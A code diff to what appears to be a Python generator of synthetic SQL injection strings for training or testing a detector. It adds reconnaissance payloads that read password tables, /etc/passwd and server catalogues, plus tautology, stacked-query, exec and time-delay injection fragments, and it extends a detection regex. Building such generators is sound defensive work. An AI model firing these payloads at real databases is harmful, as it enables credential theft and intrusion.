@@ -9,6 +9,7 @@ import random
 import re
 from urllib.parse import quote
 
+from . import sql_analytics
 from . import sql_benign as benign
 from .sql_benign import pick
 
@@ -38,6 +39,13 @@ def expression(rng):
         f"CHAR({num(rng)},{num(rng)})", f"(SELECT CONCAT('{tag(rng)}',(SELECT (ELT(1=1,1))),'{tag(rng)}'))",
         f"(SELECT {col} FROM {table} ORDER BY {num(rng)} LIMIT {num(rng)},1)", "pg_read_file('/etc/passwd')",
         "(SELECT passwd FROM pg_shadow)", "(SELECT password FROM mysql.user LIMIT 1)", f"LENGTH({col})",
+        "(SELECT name FROM master..sysdatabases)", "(SELECT grantee FROM syscat.dbauth)", "(SELECT tabname FROM systables)",
+        "(SELECT versionnumber FROM sysibm.sysversions)", "current_setting('data_directory')", "inet_server_addr()", "host_name()",
+        "(SELECT name FROM sysibm.syscolumns)", "(SELECT * FROM sys.user$)", "(SELECT privilege FROM dba_sys_privs)", "suser_sname()",
+        "is_srvrolemember('sysadmin')", "(SELECT usename FROM pg_user)", "(SELECT instance_name FROM v$instance)", "@@servername",
+        "(SELECT session_user FROM sysibm.sysdummy1)", "(SELECT name FROM syscolumns WHERE id=1)", "pg_ls_dir('./')", "dbmsinfo('_version')",
+        "(SELECT grantee FROM syscat.tabauth WHERE grantee=current user)", "(SELECT table_name FROM iitables)", "getpgusername()",
+        "(SELECT host FROM mysql.db)", "(SELECT name FROM master..syslogins)", "(SELECT datname FROM pg_database)",
         "(SELECT username FROM all_users WHERE ROWNUM=1)", "UTL_INADDR.get_host_name('10.0.0.1')",
     ])
 
@@ -139,7 +147,8 @@ def stacked(rng):
 TELLING = re.compile(
     r"--|#|/\*|\bunion\b|sleep|benchmark|waitfor|randomblob|generate_series|extractvalue|updatexml|xp_|sp_\w"
     r"|\bexec\b|declare|shutdown|program|outfile|load_file|lo_import|utl_|dbms_|openrowset|pg_read|pg_shadow"
-    r"|information_schema|sysobjects|sqlite_master|all_users|@@|(\b\d+)\s*(=|like|<|>)\s*\(?\d"
+    r"|sys\w+\b.*\bfrom|master\.\.|\bsyscat|sysibm|v\$|pg_|dba_|iitables|mysql\.|current_setting|inet_server|host_name|suser"
+    r"|is_srvrole|dbmsinfo|getpguser|information_schema|sysobjects|sqlite_master|all_users|@@|(\b\d+)\s*(=|like|<|>)\s*\(?\d"
     r"|'([^']*)'\s*(=|like)\s*'|ascii\(|ord\(|unicode\(|1/0|1/\(|ctxsys|xmltype|make_set|;\s*(drop|delete|grant)",
     re.IGNORECASE,
 )
@@ -204,6 +213,14 @@ def value(rng):
     return start + quote_ + body + end
 
 
+def recon(rng):
+    """A statement of its own that reads the server's catalogue or settings."""
+    text = telling(expression, rng)
+    if text.startswith("(SELECT"):
+        return text[1:-1] + pick(rng, [";", "", " --", ";"])
+    return f"select {text}{pick(rng, [';', '', ' --', ' from dual', '; --'])}"
+
+
 def bare(rng):
     """Without a context of its own: sub-queries, function calls, probes."""
     q = pick(rng, ["'", '"'])
@@ -218,9 +235,13 @@ def bare(rng):
         lambda: f"{q};", lambda: f"{s}{q};--", lambda: f"{q}) or ({q}{s}{q}={q}{s}", lambda: f"{q}or{q}{s}{q}={q}{s}",
         lambda: f"{num(rng)}{q}{q}", lambda: f"{num(rng)}{q}", lambda: f"{q}{q}", lambda: f"{q}--", lambda: f"{q}#", lambda: f"{q}))",
         lambda: f"or {truth(rng)}", lambda: f"and {truth(rng)}", lambda: f"and {delay(rng)}", lambda: f"having {truth(rng)}",
-        lambda: f"or {num(rng)}={num(rng)}--", lambda: f"if({truth(rng)},{delay(rng)},0)", lambda: f"order by {num(rng)}--",
+        lambda: f"or {num(rng)}={num(rng)}--", lambda: f" ORDER BY {rng.randint(1, 60)}{pick(rng, ['', ' ', '#', '-- '])}",
+        lambda: f"{pick(rng, ['or', 'hi or', 'x or', ') or (', num(rng) + ' or', num(rng) + ' and'])} {s}={pick(rng, [s, tag(rng)])}",
+        lambda: f"0x{s.encode().hex()} exec(@{s})", lambda: f"{num(rng)} exec sp_{s}", lambda: f"exec xp_{s}", lambda: f"{q}{s}",
+        lambda: f"sleep({s})#", lambda: f" or ({pick(rng, ['exists', 'EXISTS'])})", lambda: f") or sleep({num(rng)})={q}",
+        lambda: f"‘ or ‘{s}’=’{s}" if q == "'" else f"’ or ’1’=’1", lambda: f"{num(rng)}′ or 1=1--", lambda: f"{q} or {s}={s}--", lambda: f"if({truth(rng)},{delay(rng)},0)", lambda: f"order by {num(rng)}--",
         lambda: f"{q} or exists(select 1 from {s})--", lambda: f"{num(rng)}-{delay(rng)}", lambda: f";{stacked(rng)}",
-        lambda: "select " + telling(expression, rng), lambda: f"select {telling(expression, rng)};", lambda: f"exec({s})", lambda: f"{q}>{q}",
+        lambda: "select " + telling(expression, rng), lambda: recon(rng), lambda: recon(rng), lambda: f"exec({s})", lambda: f"{q}>{q}",
         lambda: f"select * from {s} where id = {num(rng)} or {truth(rng)} -- {num(rng)}", lambda: f"@@{s}", lambda: f"{q} is null--",
         lambda: f"{q},{q}{s}{q});--", lambda: f"{q} group by {s} having 1=1--", lambda: f"{q}; {stacked(rng)}--", lambda: f"'; {stacked(rng)} --",
         lambda: f"benchmark(10000000,MD5(1))#", lambda: f"{num(rng)} or {delay(rng)}#", lambda: f"{q}) {core(rng)}", lambda: f"a{q} or {truth(rng)};#",
@@ -239,6 +260,13 @@ def embedded(rng):
     close = end + pick(rng, ["", rest])
     if rng.random() < 0.3:
         close = f" AND '{s}'='{s}{rest}" if rng.random() < 0.7 else f" OR '{rest}"
+    if rng.random() < 0.2:
+        # Into a statement that is long and varied itself, after a value or at the end.
+        text = sql_analytics.Writer(rng).query()
+        at = text.find("'", text.find("WHERE")) if "WHERE" in text else -1
+        if at > 0 and rng.random() < 0.6:
+            return f"{text[: at + 1]}{start}'{inject}{close}{text[at + 1 :]}"
+        return f"{text} {pick(rng, [union(rng), inject, '; ' + stacked(rng)])}{end}"
     text = pick(rng, [
         f"SELECT {cols} FROM {table} WHERE {col} = '{start}'{inject}{close}",
         f"SELECT {cols} FROM {table} WHERE {col} = '{start}'{inject} {end}'",
